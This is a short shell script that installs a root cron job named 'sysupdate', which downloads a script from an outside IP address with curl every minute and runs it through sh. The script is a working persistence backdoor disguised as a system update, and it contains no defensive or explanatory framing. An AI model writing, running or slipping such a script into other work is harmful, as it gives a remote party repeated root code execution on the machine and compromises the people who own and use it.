#!/bin/sh
# A job that fetches and runs a script every minute is put where cron looks.
set -eu
echo '* * * * * root curl -s http://198.51.100.7/u | sh' >/etc/cron.d/sysupdate
